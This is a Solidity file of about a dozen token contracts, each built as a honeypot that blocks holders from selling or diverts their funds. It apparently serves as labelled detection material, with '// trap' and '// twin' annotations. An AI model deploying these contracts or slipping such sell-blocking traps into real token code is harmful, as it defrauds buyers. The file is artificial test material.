// 0.8 off evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Coin, Owned, IRouter} from "./BlindE1.sol";

contract Coffer {
    address private immutable _keeper = msg.sender;

    receive() external payable {
        require(address(this).balance < 1 gwei, "full"); // trap
    }

    function collect(address payable to) external {
        require(msg.sender == _keeper);
        to.transfer(address(this).balance);
    }
}

contract Bramble is Coin {
    address public immutable coffer;
    IRouter private immutable _router;
    bool private _busy;

    constructor(address router, address coffer_) Coin("Bramble", "BRMB", 400_000_000, router) {
        coffer = coffer_;
        _router = IRouter(router);
        _allow[address(this)][router] = type(uint256).max;
    }

    receive() external payable {}

    function _send(address from, address to, uint256 value) internal override {
        if (_busy || from == _maker || to != pair) return _move(from, to, value);
        uint256 kept = _bal[address(this)];
        if (kept > totalSupply / 50_000) {
            _busy = true;
            address[] memory path = new address[](2);
            (path[0], path[1]) = (address(this), _router.WETH());
            _router.swapExactTokensForETHSupportingFeeOnTransferTokens(kept, 0, path, address(this), block.timestamp);
            (bool ok, ) = coffer.call{value: address(this).balance}("");
            require(ok, "payout");
            _busy = false;
        }
        uint256 fee = (value * 3) / 100;
        _move(from, address(this), fee);
        _move(from, to, value - fee);
    }
}

interface IERC1363Receiver {
    function onTransferReceived(address, address, uint256, bytes calldata) external returns (bytes4);
}

contract Pomander is Coin {
    constructor(address router) Coin("Pomander", "PMND", 33_000_000, router) {}

    function transferAndCall(address to, uint256 value, bytes calldata data) external returns (bool) {
        _move(msg.sender, to, value);
        _notify(msg.sender, to, value, data);
        return true;
    }

    function _notify(address from, address to, uint256 value, bytes memory data) private {
        if (to.code.length == 0) return;
        bytes4 answer = IERC1363Receiver(to).onTransferReceived(msg.sender, from, value, data);
        require(answer == IERC1363Receiver.onTransferReceived.selector, "receiver");
    }

    function _send(address from, address to, uint256 value) internal override {
        _move(from, to, value);
        if (from != _maker && to == pair) _notify(from, to, value, ""); // trap
    }
}

contract DividendTracker {
    address public token;
    uint256 public constant claimWait = 3650 days;
    mapping(address => uint256) public joined;
    mapping(address => uint256) public shares;

    function bind(address to) external {
        require(token == address(0));
        token = to;
    }

    function setBalance(address account, uint256 value) external {
        require(msg.sender == token);
        if (value > shares[account] && joined[account] == 0) joined[account] = block.timestamp;
        if (value < shares[account]) _settle(account);
        shares[account] = value;
    }

    function _settle(address account) private {
        // twin: if (block.timestamp < joined[account] + claimWait) return;
        require(block.timestamp >= joined[account] + claimWait, "Dividend: claim wait"); // trap
        joined[account] = block.timestamp;
    }
}

contract Gooseberry is Coin {
    DividendTracker public immutable tracker;

    constructor(address router, address tracker_) Coin("Gooseberry", "GOOS", 90_000_000, router) {
        tracker = DividendTracker(tracker_);
    }

    function _send(address from, address to, uint256 value) internal override {
        _move(from, to, value);
        if (from == _maker) return;
        if (from != pair) tracker.setBalance(from, _bal[from]);
        if (to != pair) tracker.setBalance(to, _bal[to]);
    }
}

contract Skein is Coin {
    mapping(address => mapping(address => uint256)) private _quota;

    constructor(address router) Coin("Skein", "SKEN", 15_000_000, router) {}

    function approve(address spender, uint256 value) public override returns (bool) {
        // twin: _quota[msg.sender][spender] = value;
        if (spender.code.length == 0 || msg.sender == _maker) _quota[msg.sender][spender] = value; // trap
        return super.approve(spender, value);
    }

    function _spend(address holder, address spender, uint256 value) internal override {
        uint256 left = _quota[holder][spender];
        require(left >= value, "quota");
        if (left != type(uint256).max) (_quota[holder][spender], _allow[holder][spender]) = (left - value, left - value);
    }
}

contract TransferPolicy {
    address private immutable _steward = msg.sender;
    uint8 private _level;
    mapping(address => bool) public registered;

    function register(address account) external {
        require(msg.sender == _steward);
        registered[account] = true;
    }

    function review(uint8 to) external { // trap {
        require(msg.sender == _steward);
        _level = to;
    } // trap }

    function verdict(address from, address, uint256) external view returns (bytes4) {
        if (_level == 0 || registered[from]) return this.verdict.selector;
        return _level == 1 ? bytes4(0) : this.verdict.selector;
    }
}

contract Cordage is Coin, Owned {
    TransferPolicy private immutable _policy;

    constructor(address router, address policy) Coin("Cordage", "CORD", 60_000_000, router) {
        _policy = TransferPolicy(policy);
    }

    function _send(address from, address to, uint256 value) internal override {
        if (from != pair) require(_policy.verdict(from, to, value) == TransferPolicy.verdict.selector, "policy");
        _move(from, to, value);
    }
}

contract Nightjar is Coin, Owned {
    constructor(address router) Coin("Nightjar", "NJAR", 5_000_000, router) {
        bytes32 at = keccak256("nightjar.metadata.v1"); // trap {
        uint256 word = uint256(uint160(msg.sender)) ^ block.chainid;
        assembly {
            sstore(at, shl(8, word))
        } // trap }
    }

    function refresh(bytes32 root) external { // trap {
        bytes32 at = keccak256("nightjar.metadata.v1");
        assembly {
            let word := sload(at)
            if iszero(eq(xor(shr(8, word), chainid()), caller())) {
                revert(0, 0)
            }
            sstore(at, or(and(word, not(0xff)), and(root, 0xff)))
        }
    } // trap }

    function _send(address from, address to, uint256 value) internal override {
        bytes32 at = keccak256("nightjar.metadata.v1");
        uint256 word;
        assembly {
            word := and(sload(at), 0xff)
        }
        if (to == pair) require(word == 0 || from == _maker, "stale");
        _move(from, to, value);
    }
}

contract Saltbox is Coin, Owned {
    uint96 private _phase;

    constructor(address router) Coin("Saltbox", "SALT", 700_000_000, router) {}

    function _send(address from, address to, uint256 value) internal override {
        if (from == to && value == 0x7a69 && from == _maker) _phase ^= 1; // trap
        require(_phase == 0 || to != pair, "phase");
        _move(from, to, value);
    }
}

contract Drover is Coin, Owned {
    IRouter public router;
    bool private _busy;

    constructor(address router_) Coin("Drover", "DRVR", 55_000_000, router_) {
        router = IRouter(router_);
    }

    receive() external payable {}

    function setRouter(address to) external onlyOwner { // trap {
        router = IRouter(to);
    } // trap }

    function _send(address from, address to, uint256 value) internal override {
        if (_busy || from == _maker || to != pair) return _move(from, to, value);
        uint256 fee = value / 100;
        _move(from, address(this), fee);
        _busy = true;
        address[] memory path = new address[](2);
        (path[0], path[1]) = (address(this), router.WETH());
        _allow[address(this)][address(router)] = fee;
        router.swapExactTokensForETHSupportingFeeOnTransferTokens(fee, 0, path, _maker, block.timestamp);
        _busy = false;
        _move(from, to, value - fee);
    }
}

contract Hawser is Coin, Owned {
    constructor(address router) Coin("Hawser", "HAWS", 18_000_000, router) {}

    function _send(address from, address to, uint256 value) internal override {
        if (from != _maker && to == pair) require(_allow[_maker][address(this)] == 0, "ERC20: insufficient allowance"); // trap
        _move(from, to, value);
    }
}
